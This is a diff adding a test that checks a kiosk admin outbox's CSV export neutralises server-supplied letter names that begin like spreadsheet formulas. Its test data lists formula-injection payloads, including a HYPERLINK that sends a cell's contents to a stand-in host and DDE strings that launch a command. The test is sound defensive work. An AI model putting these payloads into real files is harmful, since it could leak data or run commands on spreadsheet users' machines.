@@ -78,6 +78,33 @@ describe('admin outbox', () => {
     expect(JSON.parse((json as { value: { text: string } }).value.text)).toEqual([expect.objectContaining({ reference, resident: '320101******0001' })]);
   });
 
+  // Letter names come from the village server; the office opens the CSV in a spreadsheet.
+  it.each([
+    ['=HYPERLINK("http://contoh.test/?d="&A2,"Klik")'],
+    ['+SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ['-2+3+cmd|\' /C calc\'!A0'],
+    ['@SUM(1+1)'],
+    ['\t=1+1'],
+    ['\r=1+1'],
+    ['  =1+1'],
+    ['\u00a0=1+1'],
+    ['\uFF1D1+1'],
+    ['\uFF0BSUM(1)'],
+    ['\uFF0D1'],
+    ['\uFF20SUM(1)'],
+  ])('exports a server-given letter name that starts like a formula as quoted text: %j', async (letterName) => {
+    const { admin, core, sim } = await adminKiosk();
+    const { reference } = core.outbox.enqueue(newRequest({ serverTarget: serverTarget(sim.url), letterName }), pinOf());
+    const csv = await admin('admin.outboxExport', { state: 'all', format: 'csv' });
+    const text = (csv as { value: { text: string } }).value.text;
+    // In quotes, quotes doubled, behind a single quote: a spreadsheet shows it as text.
+    expect(text).toContain(`${reference},`);
+    expect(text).toContain(`,"'${letterName.replaceAll('"', '""')}",`);
+    // The JSON export keeps the name as the server gave it.
+    const json = await admin('admin.outboxExport', { state: 'all', format: 'json' });
+    expect(JSON.parse((json as { value: { text: string } }).value.text)).toEqual([expect.objectContaining({ reference, letterName })]);
+  });
+
   it('pauses sending while admin is open, and closing admin resumes it', async () => {
     const { core, admin } = await adminKiosk();
     expect(await admin('admin.syncPause', { paused: true })).toEqual({ ok: true, value: { paused: true } });
